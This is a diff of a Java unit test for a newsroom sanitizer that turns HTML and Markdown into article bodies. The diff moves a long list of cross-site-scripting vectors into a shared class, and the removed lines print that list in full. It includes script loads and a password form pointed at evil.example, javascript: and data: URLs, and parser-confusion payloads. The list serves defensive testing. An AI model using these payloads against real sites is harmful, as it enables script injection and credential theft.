@@ -1,21 +1,15 @@
 package press.gazette.article.body;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static press.gazette.newsroom.Injections.assertHarmless;
 
 import java.util.List;
-import java.util.Map;
-import java.util.Set;
 
 import net.jqwik.api.Arbitrary;
 import net.jqwik.api.EdgeCasesMode;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import net.jqwik.api.Provide;
-import org.jsoup.Jsoup;
-import org.jsoup.nodes.Attribute;
-import org.jsoup.nodes.Comment;
-import org.jsoup.nodes.Document;
-import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.FieldSource;
@@ -23,120 +17,8 @@ import org.junit.jupiter.params.provider.FieldSource;
 /** Nothing that can run, load or disguise itself leaves as HTML, whatever came in. */
 class InjectionTest {
 
-    /** The allow-list written a second time, so that a change to the first one is noticed. */
-    private static final Map<String, Set<String>> ALLOWED = Map.ofEntries(
-            Map.entry("p", Set.of()),
-            Map.entry("h2", Set.of()),
-            Map.entry("h3", Set.of()),
-            Map.entry("h4", Set.of()),
-            Map.entry("blockquote", Set.of()),
-            Map.entry("ul", Set.of()),
-            Map.entry("ol", Set.of()),
-            Map.entry("li", Set.of()),
-            Map.entry("pre", Set.of()),
-            Map.entry("code", Set.of("class")),
-            Map.entry("hr", Set.of()),
-            Map.entry("br", Set.of()),
-            Map.entry("a", Set.of("href")),
-            Map.entry("strong", Set.of()),
-            Map.entry("em", Set.of()),
-            Map.entry("figure", Set.of("data-embed")),
-            Map.entry("figcaption", Set.of()),
-            Map.entry("small", Set.of()),
-            Map.entry("img", Set.of("src", "alt", "width", "height", "loading")));
-
-    /** Scripts, handlers, schemes, foreign vocabularies, parser confusion, and Markdown's own ways to each of them. */
-    static final List<String> VECTORS = List.of(
-            "<script>alert(1)</script>",
-            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-            "<scr<script>ipt>alert(1)</scr</script>ipt>",
-            "<script/x>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<img src=\"javascript:alert(1)\">",
-            "<img src='https://a.example/1.jpg' onload=alert(1)>",
-            "<img src=`javascript:alert(1)`>",
-            "<img \"\"\"><script>alert(1)</script>\">",
-            "<img src=//evil.example/pixel.gif>",
-            "<img src='/\\evil.example/pixel.gif'>",
-            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
-            "<img src=/a.jpg alt='\"><script>alert(1)</script>'>",
-            "<svg onload=alert(1)>",
-            "<svg><script>alert(1)</script></svg>",
-            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-            "<math href=\"javascript:alert(1)\">click</math>",
-            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-            "<iframe src=\"javascript:alert(1)\"></iframe>",
-            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-            "<object data=\"javascript:alert(1)\"></object>",
-            "<embed src=\"javascript:alert(1)\">",
-            "<a href=\"javascript:alert(1)\">x</a>",
-            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
-            "<a href=\" &#14; javascript:alert(1)\">x</a>",
-            "<a href=\"java\tscript:alert(1)\">x</a>",
-            "<a href=\"java&#10;script:alert(1)\">x</a>",
-            "<a href=\"javascript&colon;alert(1)\">x</a>",
-            "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
-            "<a href=\"\u0001javascript:alert(1)\">x</a>",
-            "<a href=\"vbscript:msgbox(1)\">x</a>",
-            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-            "<a href=\"blob:https://a.example/x\">x</a>",
-            "<a href=\"file:///etc/passwd\">x</a>",
-            "<a href=\"//evil.example\">x</a>",
-            "<a href='https://a.example/\" onmouseover=\"alert(1)'>x</a>",
-            "<a href=https://a.example/ style=position:fixed;inset:0 onclick=alert(1)>x</a>",
-            "<p style=\"background:url(javascript:alert(1))\">x</p>",
-            "<div onclick=alert(1) id=x class=y data-z=1>x</div>",
-            "<body onload=alert(1)>x",
-            "<style>@import 'https://evil.example/x.css';</style>",
-            "<link rel=stylesheet href=https://evil.example/x.css>",
-            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-            "<base href=https://evil.example/>",
-            "<form action=https://evil.example><input name=password><button>x</button></form>",
-            "<textarea></textarea><script>alert(1)</script>",
-            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
-            "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
-            "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
-            "<template><script>alert(1)</script></template>",
-            "<video src=x onerror=alert(1)></video>",
-            "<audio src=x onerror=alert(1)></audio>",
-            "<details open ontoggle=alert(1)>x</details>",
-            "<marquee onstart=alert(1)>x</marquee>",
-            "<!--><img src=x onerror=alert(1)>-->",
-            "<!--[if IE]><script>alert(1)</script><![endif]-->",
-            "<![CDATA[<script>alert(1)</script>]]>",
-            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
-            "&lt;script&gt;alert(1)&lt;/script&gt;",
-            "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
-            "<pre><code class='language-\"><script>alert(1)</script>'>&lt;/code>&lt;script>alert(1)&lt;/script></code></pre>",
-            "<figure data-embed='x\" onclick=\"alert(1)'><a href=https://a.example/>x</a></figure>",
-            "<figure data-embed=youtube><a href=javascript:alert(1)>x</a></figure>",
-            "<figure><img src=/a.jpg><figcaption><script>alert(1)</script><img src=x onerror=alert(1)>\"></figcaption></figure>",
-            "<blockquote>a<footer><svg onload=alert(1)>\"><script>alert(1)</script></footer></blockquote>",
-            "[x](javascript:alert(1))",
-            "[x](JAVASCRIPT:alert(1))",
-            "[x](<java\nscript:alert(1)>)",
-            "[x](java&Tab;script:alert(1))",
-            "[x](javascript&#58;alert(1))",
-            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-            "[x]\n\n[x]: javascript:alert(1)",
-            "[x](https://a.example/ '\" onclick=\"alert(1)')",
-            "[x](https://a.example/\"onmouseover=\"alert(1))",
-            "![x](javascript:alert(1))",
-            "![\"onerror=\"alert(1)](/a.jpg)",
-            "![x](/a.jpg '\"><script>alert(1)</script>')",
-            "<javascript:alert(1)>",
-            "`<script>alert(1)</script>`",
-            "```html\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
-            "    <script>alert(1)</script>",
-            "text <b onclick=alert(1)>x</b> <script>alert(1)</script>",
-            "> <script>alert(1)</script>\n>\n> -- <img src=x onerror=alert(1)>",
-            "[x](https://a.example \"embed:x' onclick='alert(1)\")",
-            "\\<script>alert(1)\\</script>");
-
     @ParameterizedTest
-    @FieldSource("VECTORS")
+    @FieldSource("press.gazette.newsroom.Injections#VECTORS")
     void htmlInIsHarmlessHtmlOut(String vector) {
         assertHarmless(Body.fromHtml(vector).html());
         assertHarmless(Body.fromHtml("<p>before " + vector + " after</p>").html());
@@ -144,7 +26,7 @@ class InjectionTest {
     }
 
     @ParameterizedTest
-    @FieldSource("VECTORS")
+    @FieldSource("press.gazette.newsroom.Injections#VECTORS")
     void markdownInIsHarmlessHtmlOut(String vector) {
         assertHarmless(Body.fromMarkdown(vector).html());
         assertHarmless(Body.fromMarkdown("before " + vector + " after").html());
@@ -152,7 +34,7 @@ class InjectionTest {
     }
 
     @ParameterizedTest
-    @FieldSource("VECTORS")
+    @FieldSource("press.gazette.newsroom.Injections#VECTORS")
     void plainTextThatLooksLikeAnAttackStaysPlainText(String vector) {
         Body body = new Body(List.of(
                 new Block.Paragraph(List.of(Span.of(vector))),
@@ -181,26 +63,5 @@ class InjectionTest {
     @Provide
     Arbitrary<Body> bodies() {
         return Bodies.bodies();
-    }
-
-    private static void assertHarmless(String html) {
-        Document document = Jsoup.parseBodyFragment(html);
-        document.traverse((node, depth) -> assertThat(node).as(html).isNotInstanceOf(Comment.class));
-        for (Element element : document.body().getAllElements()) {
-            if (!element.equals(document.body())) {
-                assertThat(ALLOWED).as(html).containsKey(element.normalName());
-                element.attributes().forEach(attribute -> assertAllowed(element, attribute, html));
-            }
-        }
-    }
-
-    private static void assertAllowed(Element element, Attribute attribute, String html) {
-        assertThat(ALLOWED.get(element.normalName())).as(html).contains(attribute.getKey());
-        switch (attribute.getKey()) {
-            case "href" -> assertThat(attribute.getValue()).as(html).matches("(?i)(https?://[^/]|mailto:|tel:).*");
-            case "src" -> assertThat(attribute.getValue()).as(html).matches("(?i)(https?://[^/]|/(?![/\\\\])).*");
-            case "class" -> assertThat(attribute.getValue()).as(html).matches("language-[A-Za-z0-9+#._-]+");
-            default -> assertThat(attribute.getKey()).doesNotStartWith("on");
-        }
     }
 }
